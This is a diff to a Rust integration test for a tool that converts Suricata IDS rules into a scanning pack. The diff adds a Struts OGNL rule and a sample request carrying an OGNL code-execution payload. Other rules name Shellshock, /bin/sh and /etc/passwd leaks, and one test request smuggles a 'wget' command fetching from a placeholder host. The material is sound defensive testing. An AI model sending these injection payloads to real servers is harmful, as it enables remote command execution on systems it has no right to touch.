@@ -42,7 +42,7 @@ fn scan(pack: &str, request: &[u8], name: &str) -> Vec<String> {
         .collect()
 }
 
-const RULES: &str = r#"# LOCAL rules for the importer test
+const RULES: &str = r##"# LOCAL rules for the importer test
 alert http $EXTERNAL_NET any -> $HOME_NET any (msg:"LOCAL Shellshock function definition in a request header"; flow:established,to_server; http.header; content:"() {"; reference:cve,2014-6271; classtype:attempted-admin; sid:9100001; rev:1;)
 alert http any any -> any any (msg:"LOCAL /bin/sh in the URI"; content:"/bin/sh"; http_uri; nocase; classtype:web-application-attack; sid:9100002; rev:1;)
 alert http any any -> any any (msg:"LOCAL sqlmap user agent"; http.user_agent; content:"sqlmap"; startswith; classtype:attempted-recon; sid:9100003; rev:1;)
@@ -51,7 +51,8 @@ alert http any any -> any any (msg:"LOCAL command injection in a body"; http.req
 alert http any any -> any any (msg:"LOCAL admin path, positional"; http.uri; content:"/admin"; offset:0; depth:20; sid:9100005; rev:1;)
 alert http any any -> any any (msg:"LOCAL response leak"; flow:established,to_client; http.response_body; content:"root:x:0:0"; sid:9100006; rev:1;)
 alert http any any -> any any (msg:"LOCAL lookahead"; http.request_body; content:"user="; pcre:"/user=(?!guest)\w+/P"; sid:9100007; rev:1;)
-"#;
+alert http any any -> any any (msg:"LOCAL Struts OGNL in Content-Type"; flow:to_server; http.content_type; content:"%{"; content:"#_memberAccess"; nocase; reference:cve,2017-5638; classtype:attempted-admin; sid:9100008; rev:1;)
+"##;
 
 #[test]
 fn suricata_rules_to_a_pack_that_scans() {
@@ -84,7 +85,8 @@ fn suricata_rules_to_a_pack_that_scans() {
         ":7: sid 9100005: not converted: `depth`/`offset`",
         ":8: sid 9100006: not converted: flow:to_client matches responses",
         ":9: sid 9100007: not converted: pcre: look-ahead",
-        "4 converted, 3 not converted",
+        ":10: sid 9100008: converted to SURI-9100008",
+        "5 converted, 3 not converted",
     ] {
         assert!(report.contains(want), "missing {want:?} in\n{report}");
     }
@@ -92,7 +94,7 @@ fn suricata_rules_to_a_pack_that_scans() {
     let v = picket(&["pack", "validate", pack]);
     assert!(v.status.success(), "{}", stderr(&v));
     assert!(
-        String::from_utf8_lossy(&v.stdout).contains("pack local-import version 7: 4 signatures")
+        String::from_utf8_lossy(&v.stdout).contains("pack local-import version 7: 5 signatures")
     );
 
     let get = |path: &str, ua: &str| {
@@ -133,6 +135,19 @@ fn suricata_rules_to_a_pack_that_scans() {
         ),
         ["SURI-9100004"]
     );
+    let ognl = |ct: &str| {
+        format!("POST /upload.action HTTP/1.1\r\nHost: app.example\r\nContent-Type: {ct}\r\nContent-Length: 0\r\n\r\n")
+            .into_bytes()
+    };
+    assert_eq!(
+        scan(
+            pack,
+            &ognl("%{(#_memberAccess['allowStaticMethodAccess']=true).(#cmd='id')}.multipart/form-data"),
+            "ognl.http"
+        ),
+        ["SURI-9100008"]
+    );
+    assert!(scan(pack, &ognl("text/plain; x=%{y}"), "ognl-miss.http").is_empty());
     assert!(scan(
         pack,
         &post("cmd=ls&next=; wget http://x.example/s"),
